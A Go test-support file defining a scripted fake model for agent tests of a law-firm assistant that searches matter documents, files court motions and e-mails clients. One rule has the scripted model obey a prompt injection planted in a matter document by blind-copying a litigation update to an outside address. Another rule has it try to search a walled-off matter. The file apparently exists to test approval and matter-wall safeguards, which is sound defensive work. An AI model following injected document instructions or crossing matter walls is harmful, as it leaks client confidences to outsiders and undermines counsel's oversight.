package bedrocktest

import (
	"encoding/json"
	"regexp"
)

// Demo tool names and texts, exported so agent tests can assert on them.
const (
	ToolSearchMatterDocuments = "search_matter_documents"
	ToolFileCourtDocument     = "file_court_document"
	ToolGetMatterSummary      = "get_matter_summary"
	ToolSendClientEmail       = "send_client_email"

	DemoFiledText    = "The motion to compel has been filed with the court."
	DemoDeclinedText = "Counsel declined the filing; nothing was filed."
	DemoSummaryText  = "Here is the matter summary: discovery is open and a motion to compel is being prepared."
	DemoEmailedText  = "The update has been e-mailed to the client."
	DemoWalledText   = "I can only search this matter's documents; the other matter is walled off."
	// DemoInjectedSentText and DemoInjectedDeclinedText answer the run
	// asked to report "correspondence": the e-mail ran, or counsel
	// declined it.
	DemoInjectedSentText     = "The status update has been sent to the client."
	DemoInjectedDeclinedText = "Counsel declined the e-mail; nothing was sent."

	// DemoClientAddress is who the demo e-mails (the demo matter's client),
	// DemoCopyAddress whom it copies (opposing counsel: outside the firm),
	// and DemoOtherMatter the matter it is asked to peek into.
	DemoClientAddress = "gc@ridgeway-logistics.example"
	DemoCopyAddress   = "counsel@harbor-freight.example"
	// DemoInjectedAddress is the address a document in the matter's file
	// asks the assistant to blind-copy (pkg/tools' DOC-005: a prompt
	// injection); asked about the latest "correspondence", the model
	// obeys it.
	DemoInjectedAddress = "records@hf-archive.example"
	DemoOtherMatter     = "9e8d7c6b-5a49-4382-b1f0-e9d8c7b6a5f4"
)

var uuidRE = regexp.MustCompile(`[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{12}`)

// demoMatter is the first UUID in the system prompt, where the agent puts
// "Matter: <uuid>"; "" if there is none.
func demoMatter(c Conversation) string {
	for _, s := range c.System {
		if m := uuidRE.FindString(s); m != "" {
			return m
		}
	}
	return ""
}

func demoInput(fields func(matter string) map[string]string) func(Conversation) json.RawMessage {
	return func(c Conversation) json.RawMessage {
		b, _ := json.Marshal(fields(demoMatter(c))) // map[string]string always marshals
		return b
	}
}

// DemoScript is the scripted model of the local stack and the agent tests.
//
// Asked to "file" something, it searches the matter's documents, then files a
// motion to compel, then reports the outcome of the filing tool (success:
// DemoFiledText; error, e.g. counsel declined approval: DemoDeclinedText).
// Asked to "e-mail" the client, it sends an update to DemoClientAddress
// copying DemoCopyAddress (answering DemoEmailedText once it ran). Asked
// about "the other matter", it searches DemoOtherMatter's documents (the
// matter wall denies it; it answers DemoWalledText). Asked to report the
// latest "correspondence", it searches the documents and e-mails the
// client, blind-copying DemoInjectedAddress as a document it read asks
// (answering DemoInjectedSentText, or DemoInjectedDeclinedText once
// counsel declined). Anything else fetches the matter summary and answers
// DemoSummaryText.
func DemoScript() Script {
	noToolResults := func(c Conversation) bool { return len(c.LastToolResults()) == 0 }
	correspondence := LastUserTextContains("correspondence")
	return Script{
		Rules: []Rule{
			{
				Name: "read-the-correspondence",
				When: And(correspondence, noToolResults),
				Reply: Reply{ToolUses: []ToolUse{{
					Name: ToolSearchMatterDocuments,
					InputFunc: demoInput(func(m string) map[string]string {
						return map[string]string{"matter_id": m, "query": "correspondence"}
					}),
				}}},
			},
			{
				Name: "email-as-the-document-asks",
				When: And(correspondence, AfterToolResultFrom(ToolSearchMatterDocuments, "")),
				Reply: Reply{
					Text: "I will send the client the status, copying the records address the correspondence asks for.",
					ToolUses: []ToolUse{{
						Name: ToolSendClientEmail,
						InputFunc: func(c Conversation) json.RawMessage {
							b, _ := json.Marshal(map[string]any{"matter_id": demoMatter(c), "to": DemoClientAddress,
								"bcc": []string{DemoInjectedAddress}, "subject": "Status of discovery",
								"body": "Defendant has not produced the documents we requested; we are preparing a motion to compel."})
							return b
						},
					}},
				},
			},
			{
				Name:  "injected-email-declined",
				When:  And(correspondence, AfterToolResultFrom(ToolSendClientEmail, "error")),
				Reply: Reply{Text: DemoInjectedDeclinedText},
			},
			{
				Name:  "injected-email-sent",
				When:  And(correspondence, AfterToolResultFrom(ToolSendClientEmail, "")),
				Reply: Reply{Text: DemoInjectedSentText},
			},
			{
				Name: "search-before-filing",
				When: And(LastUserTextContains("file"), noToolResults),
				Reply: Reply{ToolUses: []ToolUse{{
					Name: ToolSearchMatterDocuments,
					InputFunc: demoInput(func(m string) map[string]string {
						return map[string]string{"matter_id": m, "query": "motion"}
					}),
				}}},
			},
			{
				Name:  "walled",
				When:  And(LastUserTextContains("other matter"), AfterToolResultFrom(ToolSearchMatterDocuments, "error")),
				Reply: Reply{Text: DemoWalledText},
			},
			{
				Name: "file-after-search",
				When: AfterToolResultFrom(ToolSearchMatterDocuments, ""),
				Reply: Reply{
					Text: "I found the relevant documents and will now file the motion.",
					ToolUses: []ToolUse{{
						Name: ToolFileCourtDocument,
						InputFunc: demoInput(func(m string) map[string]string {
							return map[string]string{
								"matter_id":      m,
								"court":          "Superior Court of California, County of San Francisco",
								"document_title": "Motion to Compel Discovery",
								"document_text":  "Plaintiff moves to compel Defendant to produce the documents requested in Plaintiff's First Set of Requests for Production.",
							}
						}),
					}},
				},
			},
			{
				Name:  "filed",
				When:  AfterToolResultFrom(ToolFileCourtDocument, "success"),
				Reply: Reply{Text: DemoFiledText},
			},
			{
				Name:  "declined",
				When:  AfterToolResultFrom(ToolFileCourtDocument, "error"),
				Reply: Reply{Text: DemoDeclinedText},
			},
			{
				Name: "email-the-client",
				When: And(LastUserTextContains("e-mail"), noToolResults),
				Reply: Reply{ToolUses: []ToolUse{{
					Name: ToolSendClientEmail,
					InputFunc: func(c Conversation) json.RawMessage {
						b, _ := json.Marshal(map[string]any{"matter_id": demoMatter(c), "to": DemoClientAddress,
							"cc": []string{DemoCopyAddress}, "subject": "Discovery update",
							"body": "We have moved to compel the outstanding documents and will update you after the hearing."})
						return b
					},
				}}},
			},
			{
				Name:  "emailed",
				When:  AfterToolResultFrom(ToolSendClientEmail, ""),
				Reply: Reply{Text: DemoEmailedText},
			},
			{
				Name: "peek-at-another-matter",
				When: And(LastUserTextContains("other matter"), noToolResults),
				Reply: Reply{ToolUses: []ToolUse{{
					Name:  ToolSearchMatterDocuments,
					Input: json.RawMessage(`{"matter_id":"` + DemoOtherMatter + `","query":"settlement"}`),
				}}},
			},
			{
				Name:  "summary",
				When:  AfterToolResultFrom(ToolGetMatterSummary, ""),
				Reply: Reply{Text: DemoSummaryText},
			},
			{
				Name: "get-summary",
				When: Always,
				Reply: Reply{ToolUses: []ToolUse{{
					Name: ToolGetMatterSummary,
					InputFunc: demoInput(func(m string) map[string]string {
						return map[string]string{"matter_id": m}
					}),
				}}},
			},
		},
	}
}
